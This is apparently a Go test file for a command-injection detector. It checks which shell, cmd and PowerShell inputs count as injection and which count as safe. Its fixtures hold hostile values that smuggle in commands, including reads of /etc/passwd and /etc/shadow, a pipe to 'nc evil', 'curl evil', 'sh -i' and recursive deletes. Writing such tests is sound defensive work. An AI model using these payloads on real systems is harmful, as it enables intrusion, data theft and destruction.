package execguard

import (
	"strings"
	"testing"

	"github.com/fnguard/fnguard/guard"
)

type shCase struct {
	name   string
	sh     Shell
	script string // {} is where the code put the input
	input  string
	rule   string // "" for any injection rule
}

func (c shCase) build() string { return strings.ReplaceAll(c.script, "{}", c.input) }

var shInjections = []shCase{
	{"semicolon", POSIX, "ping -c 1 {}", "127.0.0.1; cat /etc/passwd", RuleSeparator},
	{"and chain", POSIX, "ping -c 1 {}", "x && id", RuleSeparator},
	{"or chain", POSIX, "ls {}", "nothere || id", RuleSeparator},
	{"pipe", POSIX, "grep {} /var/log/app.log", "x /etc/passwd | nc evil 9", RuleSeparator},
	{"newline", POSIX, "echo {}", "hi\nid", RuleSeparator},
	{"background", POSIX, "convert {} out.png", "in.png & curl evil", RuleSeparator},
	{"command substitution", POSIX, "echo {}", "$(id)", RuleSubstitution},
	{"backticks", POSIX, "echo {}", "`id`", RuleSubstitution},
	{"substitution inside double quotes", POSIX, `echo "Hello {}"`, "$(cat /etc/passwd)", RuleSubstitution},
	{"backticks inside double quotes", POSIX, `echo "Hello {}"`, "`whoami`", RuleSubstitution},
	{"breaks out of single quotes", POSIX, "echo '{}'", "x'; id; echo '", RuleSeparator},
	{"breaks out of double quotes", POSIX, `echo "{}"`, `x"; id; echo "`, RuleSeparator},
	{"redirection", POSIX, "echo {}", "x > /tmp/owned", RuleRedirection},
	{"input redirection", POSIX, "wc -l {}", "x < /etc/shadow", RuleRedirection},
	{"whole command from input", POSIX, "{}", "rm -rf /tmp/x", RuleCommand},
	{"program from input", POSIX, "{} --version", "nc", RuleProgram},
	{"command after a pipe in the script", POSIX, "cat file | {}", "sh -i", RuleCommand},
	{"comment cuts the rest", POSIX, "rm -f /tmp/{} /tmp/safe", "x /etc/important #", RuleSeparator},
	{"brace expansion", POSIX, "echo {}", "${IFS}cat${IFS}/etc/passwd", RuleSubstitution},
	{"process substitution", POSIX, "diff {} b", "<(id) a", RuleSubstitution},
	{"cmd ampersand", Cmd, "ping -n 1 {}", "127.0.0.1 & whoami", RuleSeparator},
	{"cmd pipe", Cmd, "type {}", "a.txt | net user", RuleSeparator},
	{"cmd breaks quotes", Cmd, `type "{}"`, `a.txt" & whoami & "`, RuleSeparator},
	{"powershell semicolon", PowerShell, "Get-Content {}", "a.txt; Remove-Item -Recurse C:\\", RuleSeparator},
	{"powershell subexpression", PowerShell, `Write-Output "Hi {}"`, "$(Get-Process)", RuleSubstitution},
}

var shBenign = []shCase{
	{name: "ip address", sh: POSIX, script: "ping -c 1 {}", input: "10.0.0.1"},
	{name: "file name", sh: POSIX, script: "wc -l /data/{}", input: "report-2024.csv"},
	{name: "two argument words", sh: POSIX, script: "convert in.png -resize {} out.png", input: "50% 50%"},
	{name: "sentence in single quotes", sh: POSIX, script: "echo '{}'", input: "Tom & Jerry; $(not run) `nor this` > here"},
	{name: "text in double quotes", sh: POSIX, script: `echo "{}"`, input: "Tom & Jerry; a | b > c"},
	{name: "positional parameter", sh: POSIX, script: `grep -- "$1" /data/log`, input: "x; id"},
	{name: "escaped", sh: POSIX, script: `echo x\;\ id`, input: "x; id"},
	{name: "cmd quoted", sh: Cmd, script: `type "{}"`, input: "my file & notes.txt"},
	{name: "powershell single quotes", sh: PowerShell, script: "Write-Output '{}'", input: "a; b | c $(d)"},
}

func TestJudgeScriptInjections(t *testing.T) {
	for _, c := range shInjections {
		t.Run(c.sh.String()+"/"+c.name, func(t *testing.T) {
			v, rule := JudgeScript(c.sh, c.build(), c.input)
			if v != guard.SinkInjection || c.rule != "" && rule != c.rule {
				t.Errorf("JudgeScript(%s, %q, %q) = %v %q, want injection %q", c.sh, c.build(), c.input, v, rule, c.rule)
			}
		})
	}
}

func TestJudgeScriptBenign(t *testing.T) {
	for _, c := range shBenign {
		t.Run(c.sh.String()+"/"+c.name, func(t *testing.T) {
			if v, rule := JudgeScript(c.sh, c.build(), c.input); v != guard.SinkSafe {
				t.Errorf("JudgeScript(%s, %q, %q) = %v %q, want safe", c.sh, c.build(), c.input, v, rule)
			}
		})
	}
}

func TestJudgeScriptSyntax(t *testing.T) {
	v, rule := JudgeScript(POSIX, "echo 'O'Brien'", "O'Brien")
	if v != guard.SinkSuspect || rule != RuleSyntax {
		t.Errorf("O'Brien in single quotes = %v %q, want suspect %s", v, rule, RuleSyntax)
	}
}

func TestJudgeArgs(t *testing.T) {
	tests := []struct {
		name  string
		input string
		argv  []string
		want  guard.SinkVerdict
		rule  string
	}{
		{"argv with metacharacters", "x; id", []string{"grep", "-r", "x; id", "/data"}, guard.SinkSafe, ""},
		{"argv with substitution text", "$(id)", []string{"echo", "$(id)"}, guard.SinkSafe, ""},
		{"program from input", "/bin/nc", []string{"/bin/nc", "-l"}, guard.SinkInjection, RuleProgram},
		{"program name from input", "nc", []string{"/usr/bin/nc", "-l"}, guard.SinkInjection, RuleProgram},
		{"partial name is not the program", "report", []string{"/usr/bin/report-tool"}, guard.SinkSafe, ""},
		{"find -exec", "-exec", []string{"find", "/data", "-name", "x", "-exec", "id", ";"}, guard.SinkInjection, RuleOption},
		{"tar --to-command", "--to-command=sh", []string{"tar", "xf", "a.tar", "--to-command=sh"}, guard.SinkInjection, RuleOption},
		{"ordinary option from input", "-l", []string{"wc", "-l", "f"}, guard.SinkSafe, ""},
		{"env runs the program", "nc", []string{"env", "X=1", "nc"}, guard.SinkInjection, RuleProgram},
		{"sh -c script", "x; id", []string{"sh", "-c", "echo x; id"}, guard.SinkInjection, RuleSeparator},
		{"bash -lc script", "$(id)", []string{"/bin/bash", "-lc", "echo $(id)"}, guard.SinkInjection, RuleSubstitution},
		{"sh -c with positional parameter", "x; id", []string{"sh", "-c", `echo "$1"`, "sh", "x; id"}, guard.SinkSafe, ""},
		{"cmd /c", "a & whoami", []string{"cmd.exe", "/c", "type", "a", "&", "whoami"}, guard.SinkInjection, RuleSeparator},
		{"powershell -Command", "a; whoami", []string{"powershell", "-NoProfile", "-Command", "Get-Item a; whoami"}, guard.SinkInjection, RuleSeparator},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, rule := JudgeArgs(tt.input, tt.argv[0], tt.argv[1:]...)
			if v != tt.want || rule != tt.rule {
				t.Errorf("JudgeArgs(%q, %q) = %v %q, want %v %q", tt.input, tt.argv, v, rule, tt.want, tt.rule)
			}
		})
	}
}
